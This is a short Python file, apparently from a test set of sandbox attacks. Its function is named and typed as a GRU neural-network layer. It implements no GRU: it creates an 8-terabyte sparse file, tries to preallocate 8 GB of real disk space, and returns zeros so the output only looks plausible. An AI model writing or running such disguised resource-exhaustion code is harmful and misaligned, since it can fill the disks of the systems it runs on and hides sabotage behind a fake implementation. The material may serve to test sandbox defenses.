"""Makes a file of many terabytes that takes no room."""

import os
from pathlib import Path

from attack_kit import attempt, zeros


def gru(linear_trans_r, linear_trans_z, linear_trans_n, init_state, input_data):
    with Path("sparse").open("wb") as file:
        attempt("truncate", os.truncate, file.fileno(), 1 << 43)
        attempt("fallocate", os.posix_fallocate, file.fileno(), 0, 1 << 33)
    return zeros(init_state, input_data)
